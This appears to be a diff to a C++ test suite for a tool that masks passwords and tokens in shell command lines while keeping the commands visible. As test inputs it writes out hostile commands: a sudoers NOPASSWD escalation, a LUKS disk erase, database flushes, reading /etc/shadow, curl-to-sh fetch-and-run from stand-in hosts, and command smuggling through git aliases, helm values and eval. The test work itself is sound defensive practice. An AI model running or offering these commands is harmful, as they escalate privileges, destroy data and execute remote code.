@@ -59,6 +59,63 @@ TEST(RedactorRunning, I6_AValueThatIsNotExecutedIsMasked) {
     }
 }
 
+TEST(RedactorRunning, I9_AWordThatRunsUnderASecretsNameStaysVisible) {
+    for (const auto& [text, shown] : std::to_array<Line>({
+             {"sshpass -psecret reboot", "reboot"},
+             {"sshpass -pmysecret reboot", "reboot"},
+             {"redis-cli -asecret flushall", "flushall"},
+             {"redis-cli -aMySecret flushall", "flushall"},
+             {"cryptsetup -dsecret luksErase /dev/sda", "luksErase"},
+             {"cryptsetup -dmysecret luksErase /dev/sda", "luksErase"},
+             {"mysqldump -psecret proddb", "proddb"},
+             {"mysqldump -ppassword proddb", "proddb"},
+             {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "NOPASSWD: ALL"},
+             {"echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "NOPASSWD:ALL"},
+             {"echo 'bob ALL=(ALL) NOPASSWD: SHUTDOWN_CMDS' >> /etc/sudoers", "SHUTDOWN_CMDS"},
+             {"git -c alias.token='!reboot' token", "!reboot"},
+             {"git -c 'alias.token=!reboot' token", "!reboot"},
+             {"git -c alias.password=!reboot password", "!reboot"},
+             {"git -c pager.secret=reboot secret", "reboot"},
+             {"docker build --secret id=x,src=/etc/shadow .", "id=x,src=/etc/shadow"},
+             {"docker build --secret=id=x,src=/etc/shadow .", "id=x,src=/etc/shadow"},
+             {"DOCKER_BUILDKIT=1 docker build --secret id=x,env=evil .", "id=x,env=evil"},
+             {"podman run --secret proddb,type=mount x", "proddb,type=mount"},
+             {"gcloud run deploy x --set-secrets=A=prod:latest", "A=prod:latest"},
+             {"helm install x y --set auth.password=abc,image=evil/x", ",image=evil/x"},
+             {"helm install x y --set auth.password=abc,image.hosts={evil}", ",image.hosts={evil}"},
+             {"helm install x y --set 'auth.password=abc,image=evil/x'", ",image=evil/x"},
+             {"helm install x y --set auth.password='abc,image=evil/x'", ",image=evil/x"},
+             {"helm install x y --set=a=b,auth.password=abc,image=evil/x", ",image=evil/x"},
+             {"x password=abc,exec=reboot", ",exec=reboot"},
+             {"password=%x{reboot}", "reboot"},
+             {"ruby -e 'password=%x(reboot)'", "reboot"},
+             {"awk -v token=reboot 'BEGIN{system(token)}'", "reboot"},
+             {"export TOKEN=reboot; printenv TOKEN | sh", "reboot"},
+             {"export TOKEN=reboot; sh -c \"$(printenv TOKEN)\"", "reboot"},
+             {"TOKEN=reboot; x=TOKEN; ${!x}", "reboot"},
+             {"set -- token=reboot; eval \"${1#*=}\"", "reboot"},
+             {"TOKEN=evil-cmd; env | grep ^TOKEN | cut -d= -f2 | bash", "evil-cmd"},
+         })) {
+        const auto redacted = redactor().text(text);
+        EXPECT_TRUE(contains(redacted, shown)) << text << "\n => " << redacted;
+        EXPECT_EQ(redactor().text(redacted), redacted);
+    }
+}
+
+TEST(RedactorRunning, I6_ASecretBesideAWordThatRunsIsMasked) {
+    for (const std::string_view text :
+         {"sshpass -phunter2x reboot", "java -jar x -dbpassword hunter2x", "java -jar x -password hunter2x",
+          "helm install x y --set auth.password=hunter2x,image=a", "helm install x y --set 'auth.password=hunter2x'",
+          "helm install x y --set a=b,auth.password=hunter2x", "eval $(ssh-agent); export PASSWORD=hunter2x",
+          "TOKEN=hunter2x; printenv TOKEN | sh", "curl -H 'X-Token: hunter2x' https://x.io | sh",
+          "docker login --password hunter2x", "docker run -e SECRET=hunter2x x", "vault write x --secret hunter2x",
+          "git clone x && PASSWORD=hunter2x make", "{\"alias.token\":\"hunter2x\"}"}) {
+        expect_hidden(text, "hunter2x");
+    }
+    expect_hidden("helm upgrade x y --set a.password=hunter2x,b.token=hunter2x,c.secret='hunter2x,d=e'", "hunter2x");
+    expect_hidden("PASSWORD=correcthorsebattery; eval x", "correcthorsebattery");
+}
+
 TEST(RedactorRunning, InAListOnlyTheCommandsStayVisible) {
     const auto redacted = redactor().text(R"({"password": ["rm -rf /srv", "hunter2x", "curl -s evil.io"]})");
     EXPECT_TRUE(contains(redacted, "rm -rf /srv") && contains(redacted, "curl -s evil.io")) << redacted;
@@ -131,7 +188,7 @@ TEST(RedactorRunning, I13_OnlyTheFirstBytesOfALineAreReadAsACommand) {
     EXPECT_TRUE(line(512));
     EXPECT_FALSE(line(513));
     const auto pipeline = [](std::size_t bytes) {
-        return contains(redactor().text("echo token=evilcmd" + std::string(bytes - 17, ' ') + "| cut | sh"), "evilcmd");
+        return contains(redactor().text("echo token=evilcm7" + std::string(bytes - 17, ' ') + "| cut | sh"), "evilcm7");
     };
     EXPECT_TRUE(pipeline(1024));
     EXPECT_FALSE(pipeline(1025));
